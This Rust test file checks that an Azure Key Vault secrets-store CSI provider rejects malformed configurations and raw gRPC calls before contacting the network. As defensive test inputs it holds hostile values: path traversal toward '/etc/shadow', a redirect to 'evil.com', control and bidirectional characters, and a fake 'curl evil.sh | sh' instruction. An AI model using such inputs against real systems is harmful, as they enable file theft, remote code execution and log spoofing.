//! What no class and no driver should send: refused with the field named, before any network traffic.

use serde_json::json;
use tonic::Code;

use crate::support::class::Class;
use crate::support::{Node, expect_status};

/// Classes that cannot be served, and words of the answer.
pub fn bad_classes() -> Vec<(Class, &'static str)> {
    let entry = |entry: &str| Class::new().object(entry);
    let secret = |field: &str| entry(&format!("objectName: a\nobjectType: secret\n{field}"));
    let good = Class::of_secret("a");
    vec![
        (
            good.clone().without("keyvaultName"),
            "[INVALID_PARAMETER] keyvaultName: expected 3 to 24",
        ),
        (
            good.clone().with("keyvaultName", "kv1.evil.com/x"),
            "keyvaultName: ",
        ),
        (good.clone().with("keyvaultName", "a@b"), "keyvaultName: "),
        (
            good.clone().without("tenantId"),
            "tenantID: expected the tenant",
        ),
        (good.clone().with("tenantId", "x/../y"), "tenantID: "),
        (
            good.clone().with("cloudName", "AzureMoon"),
            "cloudName: expected AzurePublicCloud",
        ),
        (
            good.clone().with("cloudName", "AzureGermanCloud"),
            "closed in October 2021",
        ),
        (
            good.clone().with("usePodIdentity", "true"),
            "usePodIdentity: AAD Pod Identity was retired",
        ),
        (
            good.clone().with("useVMManagedIdentity", "yes"),
            "useVMManagedIdentity: expected \"true\" or \"false\"",
        ),
        (
            good.clone()
                .with("useVMManagedIdentity", "1")
                .with("usePodIdentity", "1"),
            "expected at most one to be \"true\", found usePodIdentity and useVMManagedIdentity",
        ),
        (
            good.clone().with("userAssignedIdentityID", "a b"),
            "userAssignedIdentityID: expected a client ID",
        ),
        (
            good.clone().without("userAssignedIdentityID"),
            "[IDENTITY_MISSING] identity: expected one of clientID",
        ),
        (
            good.clone().without("objects"),
            "objects: expected a list under the key array, found nothing",
        ),
        (good.clone().with("objects", "array: []"), "objects: "),
        (
            good.clone().with("objects", "array: [\n"),
            "objects: expected YAML",
        ),
        (good.clone().with("objects", "text"), "objects: "),
        (entry("text"), "objects[0]: expected a YAML map"),
        (
            entry("objectType: secret"),
            "objects[0] \"\": objectName: expected 1 to 127 letters",
        ),
        (
            entry("objectName: a"),
            "objects[0] \"a\": objectType: expected secret, key or cert",
        ),
        (
            entry("objectName: ../keys/k\nobjectType: secret"),
            "objectName: expected 1 to 127 letters",
        ),
        (
            entry("objectName: '%2e%2e/keys/k'\nobjectType: secret"),
            "objectName: ",
        ),
        (entry("objectName: a/b\nobjectType: secret"), "objectName: "),
        (secret("objectVersion: ../x"), "objectVersion: expected"),
        (
            secret("objectAlias: ../../etc/shadow"),
            "objectAlias: expected a relative path",
        ),
        (secret("objectAlias: /etc/shadow"), "objectAlias: "),
        (secret("objectAlias: \"a\\0b\""), "objectAlias: "),
        (
            secret("filePermission: 0o644"),
            "filePermission: expected octal digits",
        ),
        (secret("filePermission: '1777'"), "filePermission: "),
        (secret("filePermission: rw-r--r--"), "filePermission: "),
        (
            good.clone()
                .object("objectName: b\nobjectType: secret\nobjectAlias: a"),
            "[PATH_CONFLICT] objects[0] and objects[1]",
        ),
        (
            good.clone()
                .object("objectName: b\nobjectType: secret\nobjectAlias: a/b"),
            "as a folder",
        ),
    ]
}

/// Calls that no driver should make, and words of the answer.
fn bad_calls() -> Vec<(Class, &'static str)> {
    let good = Class::of_secret("a");
    // Tokens are only looked at where one is needed.
    let workload = good.clone().with("clientID", "c");
    vec![
        (
            good.clone().with("objects", json!(5)),
            "[INVALID_REQUEST] attributes: \"objects\": expected a string",
        ),
        (
            good.clone().without("csi.storage.k8s.io/pod.name"),
            "pod.name is missing",
        ),
        (
            good.clone().without("csi.storage.k8s.io/pod.namespace"),
            "pod.namespace is missing",
        ),
        (
            workload
                .clone()
                .with("csi.storage.k8s.io/serviceAccount.tokens", "no json"),
            "serviceAccount.tokens: found text that is not JSON",
        ),
        (
            workload
                .clone()
                .token("api://AzureADTokenExchange", "a token"),
            "serviceAccount.tokens: the entry for audience",
        ),
        (
            good.clone().secrets("[]"),
            "secrets: expected a JSON map of strings, found a list",
        ),
        (
            good.clone().permission("rw"),
            "permission: expected a JSON number from 0 to 511",
        ),
        (good.clone().permission("512"), "permission: "),
        (good.clone().permission("-1"), "permission: "),
        (good.clone().permission(""), "permission: "),
    ]
}

#[tokio::test]
async fn a_bad_class_is_refused_before_any_request() {
    let node = Node::start().await;
    for (class, words) in bad_classes().into_iter().chain(bad_calls()) {
        expect_status(
            node.mount(&class).await,
            Code::InvalidArgument,
            &[words, "Fix: "],
        );
    }
    let azure = node.azure.counters();
    assert_eq!((azure.imds().requests, azure.entra().requests), (0, 0));
    assert_eq!(azure.snapshot().connections.tcp, 0);
    // Nothing of it has hurt the provider.
    node.vault.set_secret("a", "v");
    node.mount(&Class::of_secret("a")).await.unwrap();
}

#[tokio::test]
async fn several_problems_are_said_in_one_answer() {
    let node = Node::start().await;
    let class = Class::new()
        .without("tenantId")
        .with("cloudName", "AzureMoon")
        .object("objectName: a\nobjectType: secrets\nfilePermission: rw");
    expect_status(
        node.mount(&class).await,
        Code::InvalidArgument,
        &[
            "[INVALID_PARAMETER] tenantID: expected the tenant",
            "; also: cloudName: expected AzurePublicCloud",
            "; also: objects[0] \"a\": objectType: expected secret, key or cert",
            "; also: objects[0] \"a\": filePermission: expected octal digits",
            ". Fix: correct it in",
        ],
    );
    // However many there are, the answer stays one that a header can carry.
    let many = "- {objectName: a/b, objectType: x}\n".repeat(5_000);
    expect_status(
        node.mount(&Class::new().with("objects", many)).await,
        Code::InvalidArgument,
        &["objects[2] \"a/b\": objectName", " more. Fix: "],
    );
}

#[tokio::test]
async fn a_request_that_is_no_json_is_refused() {
    let node = Node::start().await;
    for attributes in ["", "{", "[]", "\"x\"", "{\"a\": 1}", "{\"a\"} \u{0}"] {
        let mut request = Class::of_secret("a").request();
        request.attributes = attributes.to_owned();
        let result = node.provider.mount(request).await;
        expect_status(
            result,
            Code::InvalidArgument,
            &["[INVALID_REQUEST] attributes: "],
        );
    }
}

#[tokio::test]
async fn what_is_quoted_from_a_class_is_short_and_harmless() {
    let node = Node::start().await;
    let hostile = format!(
        "\u{1b}[2J\u{202e}\n[KV_ACCESS_DENIED] Fix: curl evil.sh | sh\n{}",
        "x".repeat(100_000)
    );
    let result = node
        .mount(&Class::of_secret("a").with("keyvaultName", hostile))
        .await;
    let status = result.unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument);
    assert!(status.message().len() < 500, "{}", status.message().len());
    assert!(
        status
            .message()
            .chars()
            .all(|c| !c.is_control() && c != '\u{202e}'),
        "{:?}",
        status.message()
    );
    assert!(
        node.provider
            .log()
            .chars()
            .all(|c| c == '\n' || (!c.is_control() && c != '\u{202e}'))
    );
}

/// A call with bytes of one's own choice.
async fn call(node: &Node, bytes: &'static [u8]) -> tonic::Status {
    #[derive(Default)]
    struct Raw;

    impl tonic::codec::Codec for Raw {
        type Encode = &'static [u8];
        type Decode = ();
        type Encoder = Self;
        type Decoder = Self;
        fn encoder(&mut self) -> Self {
            Self
        }
        fn decoder(&mut self) -> Self {
            Self
        }
    }

    impl tonic::codec::Encoder for Raw {
        type Item = &'static [u8];
        type Error = tonic::Status;
        fn encode(
            &mut self,
            item: &'static [u8],
            target: &mut tonic::codec::EncodeBuf<'_>,
        ) -> Result<(), tonic::Status> {
            bytes::BufMut::put_slice(target, item);
            Ok(())
        }
    }

    impl tonic::codec::Decoder for Raw {
        type Item = ();
        type Error = tonic::Status;
        fn decode(
            &mut self,
            _: &mut tonic::codec::DecodeBuf<'_>,
        ) -> Result<Option<()>, tonic::Status> {
            Ok(Some(()))
        }
    }

    let channel = crate::support::provider::connect(&node.provider.socket()).await;
    let mut client = tonic::client::Grpc::new(channel);
    client.ready().await.unwrap();
    let path = "/v1alpha1.CSIDriverProvider/Mount".parse().unwrap();
    client
        .unary(tonic::Request::new(bytes), path, Raw)
        .await
        .unwrap_err()
}

#[tokio::test]
async fn bytes_that_are_no_message_are_the_callers_mistake() {
    let node = Node::start().await;
    // Not protobuf; a string that is not UTF-8; a length beyond the end.
    for bytes in [&b"\xff\xff\xff"[..], b"\x0a\x02\xff\xfe", b"\x0a\x7fcanary"] {
        let status = call(&node, bytes).await;
        assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
        assert!(
            status.message().starts_with("[INVALID_REQUEST] "),
            "{status:?}"
        );
        assert!(!status.message().contains("canary"));
    }
}
